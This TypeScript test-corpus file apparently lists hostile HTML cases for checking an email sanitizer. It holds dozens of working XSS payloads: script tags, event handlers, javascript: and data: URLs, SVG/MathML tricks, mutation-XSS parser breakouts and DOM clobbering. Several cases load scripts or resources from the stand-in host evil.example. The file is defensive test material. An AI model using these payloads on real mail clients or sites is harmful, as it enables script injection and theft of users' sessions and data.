import type { HostileFamily } from './hostile-mail-corpus';

// The corpus' vectors that try to run script: script elements, event handlers, javascript: and data: URLs,
// SVG and MathML, and mutation XSS (markup that changes meaning when the sanitized DOM is serialized and
// parsed again in the email's frame). `js` is the case's payload (see payload() in hostile-mail-corpus.ts):
// no spaces, no double quotes, no ">", so it fits quoted and unquoted attributes alike.

const base64 = (text: string) => Buffer.from(text).toString('base64');
const svgScript = (js: string) => `<svg xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>`;
/** A 1x1 PNG: a harmless inline image, which the email keeps. */
export const PNG_PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const scripts: HostileFamily = {
  title: 'Script elements',
  cases: [
    { name: 'script-in-head', head: (js) => `<script>${js}</script>` },
    { name: 'script-in-body', body: (js) => `<script>${js}</script>` },
    { name: 'script-uppercase', body: (js) => `<SCRIPT>${js}</SCRIPT>` },
    { name: 'script-remote-src', body: () => `<ScRiPt src="http://evil.example/script.js"></ScRiPt><script/src="http://evil.example/slash.js"></script>` },
    { name: 'script-data-src', body: (js) => `<script src="data:text/javascript,${js}"></script>` },
    { name: 'script-split-tag', body: (js) => `<scr<script>ipt>${js}</scr</script>ipt>` },
    { name: 'script-module', body: (js) => `<script type="module">${js}</script>` },
    { name: 'script-event-for', body: (js) => `<script for="window" event="onload">${js}</script>` },
    { name: 'script-in-svg', body: (js) => `<svg><script>${js}</script><script href="data:text/javascript,${js}"></script></svg>` },
    { name: 'script-in-mathml', body: (js) => `<math><mtext><script>${js}</script></mtext><script>${js}</script></math>` },
    { name: 'script-in-noscript', body: (js) => `<noscript><script>${js}</script></noscript>` },
    { name: 'script-in-template', body: (js) => `<template><script>${js}</script></template>` },
    { name: 'style-closed-by-script', body: (js) => `<style>p.x{content:"</style><script>${js}</script>"}</style>` },
  ],
};

const handlers: HostileFamily = {
  title: 'Event handlers',
  cases: [
    { name: 'img-onerror', body: (js) => `<img src=x onerror="${js}"><IMG SRC=x ONERROR="${js}"><img/src="x"/onerror="${js}">` },
    { name: 'image-tag-onerror', body: (js) => `<image src=x onerror="${js}">` },
    { name: 'svg-onload', body: (js) => `<svg onload="${js}"><circle r="4"></circle></svg>` },
    { name: 'body-onload', bodyAttributes: (js) => `onload="${js}" onpageshow="${js}" onfocus="${js}" onresize="${js}"` },
    { name: 'style-onload', body: (js) => `<style onload="${js}">p.y{color:#333}</style>` },
    { name: 'autofocus-onfocus', body: (js) => `<div tabindex="1" autofocus onfocus="${js}" onfocusin="${js}">Focus block</div>` },
    { name: 'contenteditable-autofocus', body: (js) => `<div contenteditable autofocus onfocus="${js}" onblur="${js}">Editable block</div>` },
    {
      name: 'onanimationstart',
      head: () => '<style>@keyframes hostile-pulse{from{opacity:.8}to{opacity:1}}</style>',
      body: (js) => `<div style="animation:hostile-pulse 1s 2" onanimationstart="${js}" onanimationend="${js}" onanimationiteration="${js}">Animated block</div>`,
    },
    { name: 'ontransition', body: (js) => `<div style="transition:color 1ms" ontransitionrun="${js}" ontransitionend="${js}">Transition block</div>` },
    { name: 'details-ontoggle', body: (js) => `<details open ontoggle="${js}"><summary>Details summary</summary>Details body</details>` },
    { name: 'svg-animate-onbegin', body: (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></animate></svg>` },
    { name: 'pointer-handlers', body: (js) => `<p onmouseover="${js}" onclick="${js}" onpointerenter="${js}" onwheel="${js}">Hover and click text</p>` },
    { name: 'marquee-onstart', body: (js) => `<marquee onstart="${js}">Marquee text</marquee>` },
    { name: 'content-visibility', body: (js) => `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${js}">Content visibility block</div>` },
    { name: 'popover-onbeforetoggle', body: (js) => `<div popover="manual" onbeforetoggle="${js}" ontoggle="${js}">Popover block</div>` },
    { name: 'custom-element-onclick', body: (js) => `<hostile-element onclick="${js}">Custom element</hostile-element>` },
    { name: 'onerror-entities', body: () => `<img src=x onerror="&#x70;arent.postMessage('pwned:onerror-entities','*')">` },
  ],
};

const javascriptUrls: HostileFamily = {
  title: 'javascript: URLs',
  cases: [
    { name: 'href-javascript', body: (js) => `<a href="javascript:${js}">Plain script link</a>` },
    { name: 'href-mixed-case', body: (js) => `<a href="JaVaScRiPt:${js}">Mixed case link</a>` },
    { name: 'href-entity-tab', body: (js) => `<a href="jav&#x09;ascript:${js}">Tab link</a><a href="jav&#x0A;ascript:${js}">Newline link</a>` },
    { name: 'href-entities', body: (js) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}">Entity link</a>` },
    { name: 'href-entity-colon', body: (js) => `<a href="javascript&colon;${js}">Colon entity link</a>` },
    { name: 'href-leading-space', body: (js) => `<a href="   javascript:${js}">Leading space link</a><a href="&#x01;javascript:${js}">Control link</a>` },
    { name: 'href-url-encoded', body: (js) => `<a href="javascript:${encodeURIComponent(js)}">Encoded link</a><a href="javascript://%0a${js}">Comment link</a>` },
    { name: 'href-vbscript', body: () => `<a href="vbscript:msgbox('pwned')">VBScript link</a>` },
    { name: 'href-target-top', body: (js) => `<a href="javascript:${js}" target="_top">Top script link</a>` },
    { name: 'area-href', body: (js) => `<map name="hostile-map"><area shape="rect" coords="0,0,40,40" href="javascript:${js}" alt="Area link"></map><img src="${PNG_PIXEL}" usemap="#hostile-map" width="40" height="40" alt="">` },
    { name: 'img-src-javascript', body: (js) => `<img src="javascript:${js}" alt="">` },
    { name: 'table-background-javascript', body: (js) => `<table background="javascript:${js}"><tr><td>Table cell</td></tr></table>` },
    { name: 'svg-xlink-href', body: (js) => `<svg><a xlink:href="javascript:${js}"><text x="10" y="20">SVG link</text></a></svg>` },
    { name: 'math-href', body: (js) => `<math href="javascript:${js}"><mtext>MathML link</mtext></math>` },
  ],
};

const dataUrls: HostileFamily = {
  title: 'data: URLs',
  cases: [
    { name: 'href-data-html', body: (js) => `<a href="data:text/html,<script>${js}</script>">Data link</a>` },
    { name: 'href-data-base64', body: (js) => `<a href="data:text/html;base64,${base64(`<script>${js}</script>`)}">Base64 data link</a>` },
    { name: 'href-data-uppercase', body: (js) => `<a href=" DATA:TEXT/HTML,<script>${js}</script>">Uppercase data link</a>` },
    { name: 'href-data-xhtml', body: (js) => `<a href="data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>${js}</script></html>">XHTML data link</a>` },
    { name: 'iframe-data-html', body: (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe><iframe src="data:text/html;base64,${base64(`<script>${js}</script>`)}"></iframe>` },
    { name: 'object-data-html', body: (js) => `<object data="data:text/html,<script>${js}</script>" type="text/html"></object>` },
    { name: 'embed-data-svg', body: (js) => `<embed src="data:image/svg+xml,${svgScript(js)}" type="image/svg+xml">` },
    { name: 'img-data-svg', body: (js) => `<img src="data:image/svg+xml,${svgScript(js)}" alt=""><img src="data:image/svg+xml;base64,${base64(svgScript(js))}" alt="">` },
    { name: 'css-data-svg', body: (js) => `<div style="background:url('data:image/svg+xml;base64,${base64(svgScript(js))}')">Data SVG background</div>` },
    { name: 'img-data-png', body: () => `<img src="${PNG_PIXEL}" width="8" height="8" alt="Inline pixel">` },
  ],
};

const svgAndMath: HostileFamily = {
  title: 'SVG and MathML',
  cases: [
    { name: 'svg-use-data', body: () => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='parent.postMessage(&apos;pwned:svg-use-data&apos;,&apos;*&apos;)'/></svg>`)}#x"></use></svg>` },
    { name: 'svg-use-remote', body: () => `<svg><use href="http://evil.example/sprite.svg#icon"></use><use xlink:href="//evil.example/sprite2.svg#icon"></use></svg>` },
    { name: 'svg-foreignobject', body: (js) => `<svg><foreignObject width="100" height="50"><iframe src="javascript:${js}"></iframe><img src="x" onerror="${js}"></foreignObject></svg>` },
    { name: 'svg-animate-href', body: (js) => `<svg><a><animate attributeName="href" values="javascript:${js}"></animate><text x="10" y="20">Animated link</text></a></svg>` },
    { name: 'svg-set-href', body: (js) => `<svg><a><set attributeName="href" to="javascript:${js}"></set><text x="10" y="20">Set link</text></a></svg>` },
    { name: 'svg-image-remote', body: () => `<svg><image href="http://evil.example/svg-image.png" width="10" height="10"></image><filter id="f"><feImage href="http://evil.example/feimage.png"></feImage></filter></svg>` },
    { name: 'svg-style-import', body: () => `<svg><style>@import url(http://evil.example/svg-style.css);</style></svg>` },
    { name: 'svg-desc-breakout', body: (js) => `<svg><desc><img src=x onerror="${js}"></desc></svg>` },
    { name: 'math-maction', body: (js) => `<math><maction actiontype="statusline" xlink:href="javascript:${js}"><mtext>Action</mtext></maction></math>` },
    { name: 'math-annotation-xml', body: (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${js}"></annotation-xml></math>` },
  ],
};

const mutationXss: HostileFamily = {
  title: 'Mutation XSS',
  cases: [
    { name: 'noscript-title', body: (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></p></noscript>` },
    { name: 'svg-p-style', body: (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">` },
    { name: 'math-mglyph-style', body: (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>` },
    { name: 'form-math-mglyph', body: (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}></style></mglyph></form></mtext></math>` },
    { name: 'svg-style-img', body: (js) => `<svg><style><img src=x onerror=${js}></style></svg>` },
    { name: 'math-style-img', body: (js) => `<math><style><img src=x onerror=${js}></style></math>` },
    { name: 'noembed-title', body: (js) => `<noembed><img title="</noembed><img src=x onerror=${js}>"></noembed>` },
    { name: 'noframes-title', body: (js) => `<noframes><img title="</noframes><img src=x onerror=${js}>"></noframes>` },
    { name: 'xmp-title', body: (js) => `<xmp><img title="</xmp><img src=x onerror=${js}>"></xmp>` },
    { name: 'textarea-title', body: (js) => `<textarea><img title="</textarea><img src=x onerror=${js}>"></textarea>` },
    { name: 'iframe-title', body: (js) => `<iframe><img title="</iframe><img src=x onerror=${js}>"></iframe>` },
    { name: 'select-template-style', body: (js) => `<select><template><style><img src=x onerror=${js}></style></template></select>` },
    { name: 'comment-breakout', body: (js) => `<!--<img src="--><img src=x onerror=${js}>">` },
    { name: 'svg-cdata', body: (js) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>` },
    { name: 'dom-clobbering', body: () => `<form id="attributes"><input name="attributes"></form><img name="createElement" id="cookie" src="${PNG_PIXEL}" alt="">` },
  ],
};

export const codeFamilies: HostileFamily[] = [scripts, handlers, javascriptUrls, dataUrls, svgAndMath, mutationXss];
